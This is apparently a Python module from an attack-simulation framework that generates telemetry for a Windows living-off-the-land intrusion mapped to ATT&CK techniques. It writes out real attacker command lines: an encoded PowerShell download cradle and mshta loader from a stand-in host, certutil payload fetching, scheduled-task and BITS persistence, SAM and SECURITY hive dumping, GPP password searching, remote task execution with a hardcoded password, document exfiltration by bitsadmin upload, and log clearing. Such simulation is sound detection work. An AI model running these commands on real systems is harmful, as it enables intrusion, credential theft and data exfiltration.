"""Getting along with nothing but what Windows brings: no program of the intruder's own is ever written."""

from base64 import b64encode

from vedette.simulation.actors.desk import Desk
from vedette.simulation.actors.intrusion.keyboard import Keyboard, open_shell
from vedette.simulation.actors.intrusion.movement import Hop
from vedette.simulation.telemetry.changes import register_task, run_script_block
from vedette.simulation.telemetry.logons import LogonKind, log_on, open_share, use_credentials
from vedette.simulation.telemetry.network import Endpoint, connect, device_endpoint, reach
from vedette.simulation.telemetry.objects import create_file, set_value
from vedette.simulation.telemetry.processes import run, start
from vedette.simulation.world import Process, World

SCRIPT_SITE = Endpoint("forms.tender-notes.example", "203.0.113.112", 443)
DROP_SITE = Endpoint("intake.tender-notes.example", "203.0.113.113", 443)
_SCRIPT = "C:\\Users\\Public\\Documents\\notes.ps1"


def open_shortcut(world: World, desk: Desk, browser: Process, at: float) -> Process:
    """A shortcut from a link in a mail starts a script from the network. Gives the PowerShell that stays."""
    link = f"{desk.home}\\Downloads\\Tender notes.lnk"
    script = f"IEX (New-Object Net.WebClient).DownloadString('https://{SCRIPT_SITE.name}/s')"
    encoded = b64encode(script.encode("utf-16-le")).decode()
    with world.step("A shortcut comes by a link and is opened", "initial-access", "T1566.002", "T1204.001"):
        create_file(world, browser, link, at)
        loader = start(world, desk.explorer, "mshta.exe", f"mshta.exe https://{SCRIPT_SITE.name}/n.hta", at + 21)
        reach(world, loader, SCRIPT_SITE, at + 21.4)
    with world.step("The loader starts an encoded PowerShell", "execution", "T1059.001", "T1218.005", "T1027.010"):
        command = f"powershell.exe -nop -w hidden -enc {encoded}"
        shell = start(world, loader, "powershell.exe", command, at + 23)
        run_script_block(world, shell, script, at + 23.8)
        reach(world, shell, SCRIPT_SITE, at + 24)
    return shell


def ask_for_orders(world: World, shell: Process, first: float, last: float) -> None:
    """The script asks for orders, seldom."""
    chance = world.chance("orders to the script")
    with world.step("The script asks for orders", "command-and-control", "T1071.001", "T1029"):
        at = first
        while at < last:
            reach(world, shell, SCRIPT_SITE, at)
            at += 420 * chance.uniform(0.7, 1.3)


def bring_script(keyboard: Keyboard) -> None:
    """The certificate tool fetches text and decodes it into a script."""
    world, text = keyboard.world, "C:\\Users\\Public\\Documents\\notes.txt"
    with world.step("The certificate tool fetches and decodes a script", "command-and-control", "T1105", "T1140"):
        command = f"certutil.exe -urlcache -split -f https://{SCRIPT_SITE.name}/notes.txt {text}"
        fetch = keyboard.type("certutil.exe", command, seconds=3)
        reach(world, fetch, SCRIPT_SITE, keyboard.at - 2.5)
        create_file(world, fetch, text, keyboard.at - 1)
        decoder = keyboard.type("certutil.exe", f"certutil.exe -decode {text} {_SCRIPT}")
        create_file(world, decoder, _SCRIPT, keyboard.at - 0.2)


def stay(keyboard: Keyboard) -> None:
    """A scheduled task and a transfer job, both starting the script."""
    world, action = keyboard.world, f"powershell.exe -w hidden -ep bypass -f {_SCRIPT}"
    with world.step("A scheduled task starts the script", "persistence", "T1053.005"):
        keyboard.type("schtasks.exe", f'schtasks /create /tn "Notes Sync" /tr "{action}" /sc hourly /f')
        register_task(world, keyboard.device, keyboard.session, "\\Notes Sync", action, keyboard.at)
    with world.step("A transfer job starts the script", "persistence", "T1197"):
        keyboard.type("bitsadmin.exe", "bitsadmin /create /download notes")
        keyboard.type("bitsadmin.exe", f'bitsadmin /SetNotifyCmdLine notes powershell.exe "-f {_SCRIPT}"')
        keyboard.type("bitsadmin.exe", "bitsadmin /resume notes")


def search_passwords(keyboard: Keyboard) -> None:
    """In the policies of the domain, and in the hives of this machine."""
    world = keyboard.world
    with world.step("Policies of the domain are searched for passwords", "credential-access", "T1552.006", "T1552.001"):
        controller = world.with_role("domain controller")[0]
        policies = f"\\\\{controller.name}\\sysvol\\meridian.example\\policies\\*.xml"
        search = keyboard.type("findstr.exe", f"findstr /S /I cpassword {policies}", seconds=8)
        reach(world, search, device_endpoint(controller, 445), keyboard.at - 7)
    with world.step("Hives with passwords are saved", "credential-access", "T1003.002", "T1003.004"):
        for hive in ("SAM", "SYSTEM", "SECURITY"):
            path = f"C:\\Users\\Public\\Documents\\{hive[:3].lower()}.dat"
            saver = keyboard.type("reg.exe", f"reg save HKLM\\{hive} {path} /y", seconds=2)
            create_file(world, saver, path, keyboard.at - 1)


def move_by_task(keyboard: Keyboard, hop: Hop) -> Keyboard:
    """A task, created from afar and run at once, gives a shell as the system on the target."""
    world, target, here = keyboard.world, hop.target, keyboard.device
    world.intruder_accounts[hop.account.qualified] = hop.account
    shared = f"/s {target.name} /u {hop.account.qualified} /p Qu4rry-2291"
    with world.step(f"A scheduled task starts a shell on {target.name}", "lateral-movement", "T1053.005", "T1078.002"):
        action = f"cmd.exe /c powershell -ep bypass -f {_SCRIPT}"
        command = f'schtasks /create {shared} /tn "Notes Sync" /tr "{action}" /sc once /st 23:59 /ru SYSTEM'
        creator = keyboard.type("schtasks.exe", command, seconds=2)
        use_credentials(world, creator, hop.account, target, keyboard.at - 1.8)
        reach(world, creator, device_endpoint(target, 135), keyboard.at - 1.7)
        session = log_on(world, target, hop.account, LogonKind.NETWORK, keyboard.at - 1.5, caller=here)
        open_share(world, target, session, "IPC$", keyboard.at - 1.4, caller=here)
        register_task(world, target, session, "\\Notes Sync", action, keyboard.at - 1)
        keyboard.type("schtasks.exe", f'schtasks /run {shared} /tn "Notes Sync"')
        first = start(world, target.residents["svchost.exe"], "cmd.exe", action, keyboard.at + 0.5)
        return open_shell(world, keyboard.chance, first, keyboard.at + 1)


def forward_port(keyboard: Keyboard, target: str) -> None:
    """This device becomes a stepping stone."""
    world = keyboard.world
    with world.step("A port is forwarded to the file server", "command-and-control", "T1090.001"):
        rule = f"listenport=8443 listenaddress=0.0.0.0 connectport=445 connectaddress={target}"
        forwarder = keyboard.type("netsh.exe", f"netsh interface portproxy add v4tov4 {rule}")
        value = "HKLM\\System\\CurrentControlSet\\Services\\PortProxy\\v4tov4\\tcp\\0.0.0.0/8443"
        set_value(world, forwarder, value, f"{target}/445", keyboard.at - 0.2)


def send_by_transfer_job(keyboard: Keyboard, folder: str) -> None:
    """Documents are packed with the cabinet tool and uploaded by a transfer job."""
    world, cabinet = keyboard.world, "C:\\Users\\Public\\Documents\\n.cab"
    with world.step("Documents are packed into a cabinet", "collection", "T1560.001", "T1005"):
        keyboard.type("Robocopy.exe", f"robocopy {folder} C:\\Users\\Public\\Documents\\n *.docx *.xlsx /s", seconds=40)
        packer = keyboard.type(
            "makecab.exe", f"makecab /f C:\\Users\\Public\\Documents\\n.ddf /d {cabinet}", seconds=30
        )
        create_file(world, packer, cabinet, keyboard.at - 28)
    with world.step("A transfer job uploads the cabinet", "exfiltration", "T1048.002", "T1197"):
        command = f"bitsadmin /transfer n /upload /priority low https://{DROP_SITE.name}/n.cab {cabinet}"
        sender = keyboard.type("bitsadmin.exe", command, seconds=60)
        reach(world, sender, DROP_SITE, keyboard.at - 59)
        for part in range(6):
            connect(world, keyboard.device.residents["svchost.exe"], DROP_SITE, keyboard.at - 55 + 9 * part)


def clean_up(keyboard: Keyboard) -> None:
    """What was used is removed, and the log of the session with it."""
    world = keyboard.world
    with world.step("Files of the stay are removed", "stealth", "T1070.004"):
        run(world, keyboard.shell, "cmd.exe", "cmd /c del /f /q C:\\Users\\Public\\Documents\\*.dat", keyboard.think())
    with world.step("The log of PowerShell is cleared", "defense-impairment", "T1685.005"):
        keyboard.type("wevtutil.exe", "wevtutil cl Microsoft-Windows-PowerShell/Operational")
